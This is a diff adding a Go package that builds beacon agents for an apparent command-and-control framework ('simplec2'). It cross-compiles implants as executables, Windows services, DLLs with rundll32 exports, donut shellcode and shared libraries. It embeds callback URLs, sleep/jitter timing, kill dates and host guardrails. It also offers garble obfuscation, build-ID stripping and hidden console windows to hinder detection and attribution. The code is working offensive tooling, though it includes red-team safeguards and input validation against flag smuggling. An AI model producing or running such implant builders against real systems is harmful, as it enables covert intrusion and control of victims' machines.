@@ -0,0 +1,456 @@
+// Package builder cross-compiles agent binaries on the TeamServer.
+package builder
+
+import (
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net"
+	"net/url"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"time"
+
+	"simplec2/pkg/config"
+)
+
+// supportedTargets lists the GOOS/GOARCH combinations the agent can be built for.
+var supportedTargets = map[string][]string{
+	"windows": {"amd64", "386", "arm64"},
+	"linux":   {"amd64", "386", "arm64"},
+	"darwin":  {"amd64", "arm64"},
+}
+
+// agentPackages maps a transport to the agent package implementing it (relative to the source dir).
+var agentPackages = map[string]string{
+	"http": "./agents/http",
+}
+
+// formatSpec describes how an output format is produced.
+type formatSpec struct {
+	OS        []string // Target OSes the format is available for
+	Arch      []string // Optional: restricts the target architectures
+	Suffix    string   // Appended to the file name (empty means ".exe" on Windows)
+	BuildMode string   // go build -buildmode, empty for the default
+	Tags      string   // Build tags selecting the agent entry point
+	CGO       bool     // Requires cgo and a C cross compiler
+}
+
+// formats lists the output formats the builder can produce.
+var formats = map[string]formatSpec{
+	"exe":       {OS: []string{"windows", "linux", "darwin"}},
+	"service":   {OS: []string{"windows"}, Suffix: "_svc.exe", Tags: "service"},
+	"dll":       {OS: []string{"windows"}, Suffix: ".dll", BuildMode: "c-shared", Tags: "dll", CGO: true},
+	"shellcode": {OS: []string{"windows"}, Arch: []string{"amd64", "386"}, Suffix: ".bin"}, // EXE converted with donut
+	"so":        {OS: []string{"linux"}, Suffix: ".so", BuildMode: "c-shared", Tags: "shared", CGO: true},
+	"dylib":     {OS: []string{"darwin"}, Suffix: ".dylib", BuildMode: "c-shared", Tags: "shared", CGO: true},
+}
+
+// defaultCrossCompilers are the C compilers used for cgo builds when none is configured.
+var defaultCrossCompilers = map[string]string{
+	"windows/amd64": "x86_64-w64-mingw32-gcc",
+	"windows/386":   "i686-w64-mingw32-gcc",
+	"linux/amd64":   "x86_64-linux-gnu-gcc",
+	"linux/386":     "i686-linux-gnu-gcc",
+	"linux/arm64":   "aarch64-linux-gnu-gcc",
+	"darwin/amd64":  "o64-clang", // osxcross
+	"darwin/arm64":  "oa64-clang",
+}
+
+// donutArch maps GOARCH to donut's -a argument.
+var donutArch = map[string]string{
+	"386":   "1",
+	"amd64": "2",
+}
+
+var identifierRegexp = regexp.MustCompile(`^[A-Za-z_][A-Za-z0-9_]*$`)
+
+var domainRegexp = regexp.MustCompile(`^([a-z0-9]([a-z0-9-]*[a-z0-9])?\.)+[a-z0-9]([a-z0-9-]*[a-z0-9])?$`)
+
+// Options describes a single agent build.
+type Options struct {
+	OS           string
+	Arch         string
+	Transport    string
+	Format       string
+	CallbackURL  string
+	PublicKeyPEM string
+	Sleep        int
+	Jitter       int
+	KillDate     *time.Time
+	UseDocker    bool
+	Obfuscate    bool   // Build through garble (literal encryption, symbol renaming) and strip build metadata
+	Verbose      bool   // Log to stderr instead of staying silent, for diagnosing the agent
+	ExportName   string // DLL only: name of the exported entry point, defaults to "Start"
+	ServiceName  string // Service only: SCM service name
+
+	// Guardrails: the agent exits silently unless the host matches
+	GuardHostnames []string // Allowed hostnames
+	GuardNetworks  []string // Allowed networks (CIDR)
+
+	// DNS canary: the agent resolves a fresh name under this subdomain when it runs
+	CanaryDomain string
+	// Presented by the agent at staging, so the TeamServer knows which payload a beacon comes from
+	BuildToken string
+}
+
+// Result describes a finished build artifact.
+type Result struct {
+	FileName string
+	Path     string
+	Size     int64
+	SHA256   string
+}
+
+// Validate checks that the options describe a buildable payload.
+func (o *Options) Validate() error {
+	arches, ok := supportedTargets[o.OS]
+	if !ok {
+		return fmt.Errorf("unsupported os: %s", o.OS)
+	}
+	if !contains(arches, o.Arch) {
+		return fmt.Errorf("unsupported arch for %s: %s", o.OS, o.Arch)
+	}
+	if _, ok := agentPackages[o.Transport]; !ok {
+		return fmt.Errorf("unsupported transport: %s", o.Transport)
+	}
+	spec, ok := formats[o.Format]
+	if !ok {
+		return fmt.Errorf("unsupported format: %s", o.Format)
+	}
+	if !contains(spec.OS, o.OS) {
+		return fmt.Errorf("format %s is not available for %s", o.Format, o.OS)
+	}
+	if spec.Arch != nil && !contains(spec.Arch, o.Arch) {
+		return fmt.Errorf("format %s is not available for %s", o.Format, o.Arch)
+	}
+	if o.ExportName != "" && !identifierRegexp.MatchString(o.ExportName) {
+		return fmt.Errorf("invalid export name: %q", o.ExportName)
+	}
+	if strings.ContainsAny(o.ServiceName, " \t\"'") {
+		return fmt.Errorf("invalid service name: %q", o.ServiceName)
+	}
+	for _, hostname := range o.GuardHostnames {
+		if hostname == "" || strings.ContainsAny(hostname, " \t,\"'") {
+			return fmt.Errorf("invalid guardrail hostname: %q", hostname)
+		}
+	}
+	for _, cidr := range o.GuardNetworks {
+		if _, _, err := net.ParseCIDR(cidr); err != nil {
+			return fmt.Errorf("invalid guardrail network: %q", cidr)
+		}
+	}
+	if o.CanaryDomain != "" && (len(o.CanaryDomain) > 200 || !domainRegexp.MatchString(o.CanaryDomain)) {
+		return fmt.Errorf("invalid canary domain: %q", o.CanaryDomain)
+	}
+	if strings.ContainsAny(o.BuildToken, " \t\"'") {
+		return fmt.Errorf("invalid build token: %q", o.BuildToken)
+	}
+
+	// The URL goes into -ldflags, which is split on whitespace and quotes: url.Parse lets spaces
+	// through in the path, enough to smuggle in other -X flags
+	u, err := url.Parse(o.CallbackURL)
+	if err != nil || strings.ContainsAny(o.CallbackURL, " \t\r\n\"'") || (u.Scheme != "http" && u.Scheme != "https") || u.Host == "" {
+		return fmt.Errorf("invalid callback url: %q", o.CallbackURL)
+	}
+	if o.PublicKeyPEM == "" {
+		return fmt.Errorf("listener public key is required")
+	}
+	if o.Sleep < 0 {
+		return fmt.Errorf("sleep must not be negative")
+	}
+	if o.Jitter < 0 || o.Jitter > 99 {
+		return fmt.Errorf("jitter must be between 0 and 99 percent")
+	}
+	if o.KillDate != nil && !o.KillDate.After(time.Now()) {
+		return fmt.Errorf("kill date must be in the future")
+	}
+	return nil
+}
+
+// Builder compiles agents from the configured source tree.
+type Builder struct {
+	cfg config.BuilderConfig
+}
+
+// New creates a Builder from the TeamServer builder configuration.
+func New(cfg config.BuilderConfig) *Builder {
+	if cfg.GoBinary == "" {
+		cfg.GoBinary = "go"
+	}
+	if cfg.GarbleBinary == "" {
+		cfg.GarbleBinary = "garble"
+	}
+	if cfg.DonutBinary == "" {
+		cfg.DonutBinary = "donut"
+	}
+	if cfg.DockerImage == "" {
+		cfg.DockerImage = "golang:1.25"
+	}
+	return &Builder{cfg: cfg}
+}
+
+// crossCompiler returns the C compiler used for cgo builds of the given target.
+func (b *Builder) crossCompiler(goos, goarch string) (string, error) {
+	target := goos + "/" + goarch
+	if cc, ok := b.cfg.CrossCompilers[target]; ok && cc != "" {
+		return cc, nil
+	}
+	if cc, ok := defaultCrossCompilers[target]; ok {
+		return cc, nil
+	}
+	return "", fmt.Errorf("no C cross compiler configured for %s", target)
+}
+
+// Build compiles an agent for the given options and stores it under OutputDir/<id>/.
+func (b *Builder) Build(ctx context.Context, id string, opts Options) (*Result, error) {
+	if err := opts.Validate(); err != nil {
+		return nil, err
+	}
+	spec := formats[opts.Format]
+
+	sourceDir, err := filepath.Abs(b.cfg.SourceDir)
+	if err != nil {
+		return nil, fmt.Errorf("failed to resolve source dir: %w", err)
+	}
+	outDir, err := filepath.Abs(filepath.Join(b.cfg.OutputDir, id))
+	if err != nil {
+		return nil, fmt.Errorf("failed to resolve output dir: %w", err)
+	}
+	if err := os.MkdirAll(outDir, 0755); err != nil {
+		return nil, fmt.Errorf("failed to create output dir: %w", err)
+	}
+
+	// fileName is the shipped artifact, binName what go build writes.
+	// They only differ for shellcode, which is converted from a regular EXE.
+	fileName := fmt.Sprintf("beacon_%s_%s_%s", opts.Transport, opts.OS, opts.Arch)
+	binName := fileName + ".exe"
+	switch {
+	case opts.Format == "shellcode":
+		fileName += spec.Suffix
+	case spec.Suffix != "":
+		fileName += spec.Suffix
+		binName = fileName
+	case opts.OS == "windows":
+		fileName += ".exe"
+		binName = fileName
+	default:
+		binName = fileName
+	}
+
+	// The agent embeds listener.pub; swap in the listener's key through a build overlay
+	// so the source tree is never modified. Generated entry points are added the same way.
+	workDir, err := os.MkdirTemp("", "simplec2-build-")
+	if err != nil {
+		return nil, fmt.Errorf("failed to create work dir: %w", err)
+	}
+	defer os.RemoveAll(workDir)
+
+	pkg := agentPackages[opts.Transport]
+	srcRoot, workRoot := sourceDir, workDir
+	if opts.UseDocker {
+		srcRoot, workRoot = "/src", "/work"
+	}
+	overlayFiles := map[string]string{
+		"listener.pub": opts.PublicKeyPEM,
+	}
+	if opts.Format == "dll" {
+		overlayFiles["zz_export_dll.go"] = dllExportSource(opts.ExportName)
+	}
+	replace := make(map[string]string)
+	for name, content := range overlayFiles {
+		if err := os.WriteFile(filepath.Join(workDir, name), []byte(content), 0644); err != nil {
+			return nil, fmt.Errorf("failed to write %s: %w", name, err)
+		}
+		replace[filepath.Join(srcRoot, pkg, name)] = filepath.Join(workRoot, name)
+	}
+	overlay, err := json.Marshal(map[string]map[string]string{"Replace": replace})
+	if err != nil {
+		return nil, fmt.Errorf("failed to marshal overlay: %w", err)
+	}
+	if err := os.WriteFile(filepath.Join(workDir, "overlay.json"), overlay, 0644); err != nil {
+		return nil, fmt.Errorf("failed to write overlay: %w", err)
+	}
+
+	env := []string{"GOOS=" + opts.OS, "GOARCH=" + opts.Arch, "CGO_ENABLED=0"}
+	if spec.CGO {
+		cc, err := b.crossCompiler(opts.OS, opts.Arch)
+		if err != nil {
+			return nil, err
+		}
+		env = []string{"GOOS=" + opts.OS, "GOARCH=" + opts.Arch, "CGO_ENABLED=1", "CC=" + cc}
+	}
+
+	tool, buildArgs := b.cfg.GoBinary, []string{"build"}
+	if opts.Obfuscate {
+		if _, err := exec.LookPath(b.cfg.GarbleBinary); err != nil && !opts.UseDocker {
+			return nil, fmt.Errorf("obfuscation requested but garble is not available: %w", err)
+		}
+		// -literals encrypts string literals, -tiny strips panic/position info, -seed=random
+		// makes every build unique so each hash maps to exactly one build job.
+		tool, buildArgs = b.cfg.GarbleBinary, []string{"-literals", "-tiny", "-seed=random", "build"}
+	}
+	buildArgs = append(buildArgs, "-trimpath", "-buildvcs=false", "-overlay", filepath.Join(workRoot, "overlay.json"), "-ldflags", ldflags(opts))
+	if spec.BuildMode != "" {
+		buildArgs = append(buildArgs, "-buildmode="+spec.BuildMode)
+	}
+	if spec.Tags != "" {
+		buildArgs = append(buildArgs, "-tags", spec.Tags)
+	}
+
+	var cmd *exec.Cmd
+	if opts.UseDocker {
+		// Inside the sandbox image the toolchain is expected on PATH
+		tool = "go"
+		if opts.Obfuscate {
+			tool = "garble"
+		}
+		args := []string{
+			"run", "--rm",
+			"-v", sourceDir + ":/src:ro",
+			"-v", workDir + ":/work:ro",
+			"-v", outDir + ":/out",
+			"-w", "/src",
+		}
+		for _, e := range env {
+			args = append(args, "-e", e)
+		}
+		args = append(args, b.cfg.DockerImage, tool)
+		args = append(args, buildArgs...)
+		args = append(args, "-o", "/out/"+binName, pkg)
+		cmd = exec.CommandContext(ctx, "docker", args...)
+	} else {
+		args := append(buildArgs, "-o", filepath.Join(outDir, binName), pkg)
+		cmd = exec.CommandContext(ctx, tool, args...)
+		cmd.Dir = sourceDir
+		cmd.Env = append(os.Environ(), env...)
+	}
+
+	if output, err := cmd.CombinedOutput(); err != nil {
+		return nil, fmt.Errorf("build failed: %w: %s", err, strings.TrimSpace(string(output)))
+	}
+
+	if spec.BuildMode == "c-shared" {
+		// c-shared also emits a C header we don't ship
+		os.Remove(filepath.Join(outDir, strings.TrimSuffix(binName, filepath.Ext(binName))+".h"))
+	}
+	if opts.Format == "shellcode" {
+		if err := b.convertToShellcode(ctx, filepath.Join(outDir, binName), filepath.Join(outDir, fileName), opts.Arch); err != nil {
+			return nil, err
+		}
+	}
+
+	path := filepath.Join(outDir, fileName)
+	size, sum, err := hashFile(path)
+	if err != nil {
+		return nil, fmt.Errorf("failed to hash artifact: %w", err)
+	}
+
+	return &Result{
+		FileName: fileName,
+		Path:     path,
+		Size:     size,
+		SHA256:   sum,
+	}, nil
+}
+
+// convertToShellcode turns a PE into position-independent shellcode using donut.
+func (b *Builder) convertToShellcode(ctx context.Context, exePath, outPath, goarch string) error {
+	if _, err := exec.LookPath(b.cfg.DonutBinary); err != nil {
+		return fmt.Errorf("shellcode format requires donut: %w", err)
+	}
+	cmd := exec.CommandContext(ctx, b.cfg.DonutBinary, "-i", exePath, "-o", outPath, "-a", donutArch[goarch])
+	if output, err := cmd.CombinedOutput(); err != nil {
+		return fmt.Errorf("shellcode conversion failed: %w: %s", err, strings.TrimSpace(string(output)))
+	}
+	return os.Remove(exePath)
+}
+
+// dllExportSource generates the cgo file exporting the DLL entry point.
+// The export blocks for the lifetime of the beacon, so it can be invoked via rundll32.
+func dllExportSource(exportName string) string {
+	if exportName == "" {
+		exportName = "Start"
+	}
+	return fmt.Sprintf(`//go:build dll
+
+package main
+
+import "C"
+
+//export %[1]s
+func %[1]s() {
+	runBeacon()
+}
+`, exportName)
+}
+
+// ldflags builds the linker flags injecting the build-time settings into the agent's main package.
+func ldflags(opts Options) string {
+	flags := []string{
+		"-s", "-w",
+		"-X", "main.serverURL=" + opts.CallbackURL,
+		"-X", fmt.Sprintf("main.initialSleep=%d", opts.Sleep),
+		"-X", fmt.Sprintf("main.initialJitter=%d", opts.Jitter),
+	}
+	if opts.KillDate != nil {
+		flags = append(flags, "-X", fmt.Sprintf("main.killDate=%d", opts.KillDate.Unix()))
+	}
+	if len(opts.GuardHostnames) > 0 {
+		flags = append(flags, "-X", "main.guardHostnames="+strings.Join(opts.GuardHostnames, ","))
+	}
+	if len(opts.GuardNetworks) > 0 {
+		flags = append(flags, "-X", "main.guardNetworks="+strings.Join(opts.GuardNetworks, ","))
+	}
+	if opts.BuildToken != "" {
+		flags = append(flags, "-X", "main.buildToken="+opts.BuildToken)
+	}
+	if opts.CanaryDomain != "" {
+		flags = append(flags, "-X", "main.canaryDomain="+opts.CanaryDomain)
+	}
+	if opts.Verbose {
+		flags = append(flags, "-X", "main.silent=false")
+	}
+	if opts.Format == "service" && opts.ServiceName != "" {
+		flags = append(flags, "-X", "main.serviceName="+opts.ServiceName)
+	}
+	if opts.Obfuscate {
+		// Drop the Go build ID so it can't be used to link binaries together
+		flags = append(flags, "-buildid=")
+	}
+	if opts.OS == "windows" && opts.Format != "dll" && !opts.Verbose {
+		// Don't pop up a console window; verbose builds keep it for their log
+		flags = append(flags, "-H=windowsgui")
+	}
+	return strings.Join(flags, " ")
+}
+
+func hashFile(path string) (int64, string, error) {
+	f, err := os.Open(path)
+	if err != nil {
+		return 0, "", err
+	}
+	defer f.Close()
+
+	h := sha256.New()
+	size, err := io.Copy(h, f)
+	if err != nil {
+		return 0, "", err
+	}
+	return size, hex.EncodeToString(h.Sum(nil)), nil
+}
+
+func contains(list []string, s string) bool {
+	for _, v := range list {
+		if v == s {
+			return true
+		}
+	}
+	return false
+}